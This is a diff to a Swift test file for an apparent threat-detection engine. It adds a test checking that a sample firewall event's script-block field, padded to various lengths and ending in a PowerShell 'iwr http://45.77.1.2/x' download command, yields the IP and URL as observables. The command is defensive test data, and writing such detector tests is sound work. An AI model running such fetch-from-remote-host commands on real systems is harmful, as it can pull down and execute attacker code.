@@ -135,6 +135,20 @@ import Testing
     #expect(found.map { $0.reasons.map(\.field) } == [["QueryName"], ["SomethingNobodyListed"]])
   }
 
+  /// A script block may be longer than any address: what it calls is found wherever it stands.
+  @Test(arguments: [0, 900, 20_000, 200_000]) func observablesOfLongValues(_ padding: Int) {
+    let rules = Self.rules("", sigma: Self.rule)
+    var batch = EventBatch(fields: rules.everyField)
+    let source = batch.source(LogSource(dataType: "test:firewall", product: "testfw"))
+    batch.append(Event(source: source, recordNumber: 7, itemOffset: 64, itemLength: 9, raw: 0..<0))
+    batch.append("tunnel-up", named: "action")
+    batch.append(
+      String(repeating: "# padding\n", count: padding / 10) + "iwr http://45.77.1.2/x", named: "ScriptBlockText")
+    var found: [Finding] = []
+    Detector(rules).examine(batch, context: Self.context) { found.append($0) }
+    #expect(found.map { $0.observables.map(\.value) } == [["45.77.1.2", "http://45.77.1.2/x"]])
+  }
+
   @Test func message() {
     let hash = String(repeating: "ab", count: 32)
     let rules = Self.rules("evil.example\nactor@free.example\n\(hash)\nhttp://evil.example/?a=1&b=2\n", sigma: "")
